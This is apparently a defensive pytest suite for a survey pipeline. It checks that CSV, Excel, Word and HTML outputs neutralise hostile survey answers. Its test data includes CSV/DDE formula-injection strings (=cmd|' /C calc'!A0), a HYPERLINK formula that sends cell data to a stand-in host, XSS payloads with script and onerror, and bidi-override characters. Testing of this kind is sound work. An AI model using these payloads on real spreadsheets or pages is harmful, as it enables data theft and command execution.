"""A whole run of hostile answers: nothing in any file that it makes runs, links or leaves."""

from __future__ import annotations

import csv
import json
import re
import stat
import zipfile
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Final

import openpyxl
import pytest
import xlsxwriter
from lxml import etree

from pipeline.cli import main
from pipeline.formulas import unguard_formula
from pipeline.tables import SCHEMAS, load_table

if TYPE_CHECKING:
    from pathlib import Path

TRAPS: Final = (
    '=HYPERLINK("http://example.invalid/?"&A1,"道が暗い")', "=cmd|' /C calc'!A0", "+1+cmd|x!A0 街灯",
    "-2+3+cmd|x!A0 公園", "@SUM(1+1)*cmd|x!A0 バス", "＝1＋1 広報が読めない", "\t=1+1 相談先がない",
    "<script>alert('EVIL')</script>道が暗い", "</script><script>EVIL()</script>街灯がない",
    "<!-- EVIL 公園が狭い", "\u2028EVIL\u2029居場所がほしい", '"><img src=x onerror=EVIL()>バスが遠い',
    "javascript:EVIL() を押す", "http://example.invalid/EVIL を見てほしい", "{ HYPERLINK evil } 道が狭い",
    "道が\u202eいなけぬ\u202c暗い", "公\u200b園\u2066が\u2069遠い", "\U000e0041\U000e0042夜道が暗い",
    "外字\ue000が読めない", "字の\x0bない\x1f字 道が暗い", "_x0041_ 街灯がほしい", "辻\U000e0100さんの道が暗い",
    "\ufeff先頭の字 公園がほしい", "家族👨‍👩‍👧の居場所がほしい",
)  # fmt: skip
BIDI: Final = re.compile("[\u202a-\u202e\u2066-\u2069]")
HEADER: Final = "=1+1<script>EVIL</script>ご意見をお書きください"
GROUP: Final = '=2+2"><img src=x onerror=EVIL>年代'
SHEET: Final = "=A1 & <img onerror=EVIL>"
TITLE: Final = "</title><script>EVIL</script>=調査"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    with xlsxwriter.Workbook(folder / "a'<b>EVIL.xlsx") as book:
        sheet = book.add_worksheet(SHEET)
        for place, name in enumerate(("番号", GROUP, HEADER)):
            sheet.write_string(0, place, name)
        for number in range(3 * len(TRAPS)):
            sheet.write_number(number + 1, 0, number)
            sheet.write_string(number + 1, 1, ("=cmd|x", "@20代")[number % 2])
            sheet.write_string(number + 1, 2, TRAPS[number % len(TRAPS)])
    (folder / "study.toml").write_text(
        f"title = {json.dumps(TITLE, ensure_ascii=False)}\n"
        '[[sources]]\nid = "S"\nkind = "survey"\nfile = "a\'<b>EVIL.xlsx"\n'
        f'text = [{json.dumps(HEADER, ensure_ascii=False)}]\nrespondent = "番号"\n'
        f'attributes = {{ "=年代" = {json.dumps(GROUP, ensure_ascii=False)} }}\n',
        "utf-8",
    )
    run = folder / "run"
    assert main(["run", str(folder / "study.toml"), "--output", str(run)]) == 0
    assert main(["papers", str(run)]) == 0
    before = folder / "before"
    assert main(["run", str(folder / "study.toml"), "--output", str(before), "--issues", "4"]) == 0
    for option, name in (("--output", "a.csv"), ("--output", "a.xlsx"), ("--report", "a.html")):
        made = str(folder / "compared" / name)
        (folder / "compared").mkdir(exist_ok=True)
        assert main(["compare", str(before), str(run), option, made]) == 0
    (folder / "compared").rename(run / "compared")
    return run


def test_no_cell_of_a_csv_begins_a_formula(made: Path) -> None:
    found = sorted(made.rglob("*.csv"))
    assert len(found) > 20
    for path in found:
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    number = re.fullmatch(r"-?[0-9.e+-]+", cell)
                    assert number or not re.match(r"[=+\-@\t\r\n＝＋－＠]", cell), (path, cell)


def test_the_tables_for_programs_hold_what_was_written(made: Path) -> None:
    answers = load_table("answers", made / "tables")
    assert set(answers["raw_text"]) >= {
        trap for trap in TRAPS if "\x0b" not in trap and "_x" not in trap
    }
    with (made / "tables" / "answers.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = [row["raw_text"] for row in csv.DictReader(file)]
    assert list(map(unguard_formula, rows)) == answers["raw_text"].tolist()
    assert not SCHEMAS.keys() - {path.stem for path in (made / "tables").glob("*.parquet")}


def test_no_workbook_holds_a_formula_or_a_link_outside(made: Path) -> None:
    found = sorted(made.rglob("*.xlsx"))
    assert len(found) >= 3
    for path in found:
        for sheet in openpyxl.load_workbook(path):
            assert not re.search(r"[\[\]:*?/\\]", sheet.title)
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate)
                    link = cell.hyperlink
                    assert link is None or link.target is None, (path, cell.coordinate)
        for name, text in parts(path):
            assert "EVIL" not in name
            assert not re.search(r"<f[ >]|TargetMode=\"External\"|ddeLink|oleLink", text), name


def test_no_document_holds_a_field_or_a_link_that_somebody_wrote(made: Path) -> None:
    found = sorted(made.rglob("*.docx"))
    assert found
    for path in found:
        for name, text in parts(path):
            assert 'TargetMode="External"' not in text, name
            for field in re.findall(r"<w:instrText[^>]*>([^<]*)<|w:instr=\"([^\"]*)\"", text):
                assert re.fullmatch(
                    r"\s*(?:PAGE|NUMPAGES|TOC|REF|PAGEREF|SEQ)\b[^<>]*", "".join(field)
                )


class Tags(HTMLParser):
    """Start tags of a page, what its scripts hold, and text that could turn its surroundings."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.turned: list[tuple[str, str]] = []
        self._isolated = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._isolated += tag == "bdi"
        if tag == "script":
            self.scripts.append((dict(attrs), ""))

    def handle_endtag(self, tag: str) -> None:
        self._isolated -= tag == "bdi"

    def handle_data(self, data: str) -> None:
        inside = self.tags[-1][0] if self.tags else ""
        # A text of a drawing, and the title of a part of one, stand alone.
        if BIDI.search(data) and not self._isolated and inside not in {"script", "text", "title"}:
            self.turned.append((inside, data))
        if self.cdata_elem == "script":
            attributes, before = self.scripts[-1]
            self.scripts[-1] = (attributes, before + data)


def test_no_page_runs_or_fetches_what_somebody_wrote(made: Path) -> None:
    found = sorted(made.rglob("*.html"))
    assert len(found) == 2
    for path in found:
        page = Tags()
        page.feed(path.read_text("utf-8"))
        page.close()
        for tag, attributes in page.tags:
            assert tag not in {"img", "iframe", "object", "embed", "base", "link"}
            assert not [name for name in attributes if name.startswith("on")]
            for name in ("href", "src", "xlink:href", "action"):
                assert (attributes.get(name) or "#").startswith(("#", "data:")), attributes
        for attributes, text in page.scripts:
            if attributes.get("type") == "application/json":
                json.loads(text)
            else:
                assert "EVIL" not in text
            assert "<!--" not in text
        assert not page.turned


def test_only_who_made_the_run_may_read_the_raw_text(made: Path) -> None:
    if not hasattr(stat, "S_IMODE") or made.stat().st_uid is None:
        pytest.skip("no rights of POSIX here")
    for path in sorted((made / "tables").glob("answers.*")):
        assert not stat.S_IMODE(path.stat().st_mode) & 0o077
    assert json.loads((made / "manifest.json").read_text("utf-8"))["study"]["title"] == TITLE


def parts(path: Path) -> list[tuple[str, str]]:
    """XML parts of an Office file; each is well-formed."""
    with zipfile.ZipFile(path) as archive:
        texts = [
            (name, archive.read(name).decode("utf-8"))
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        ]
    for _, text in texts:
        etree.fromstring(text.encode())
    return texts
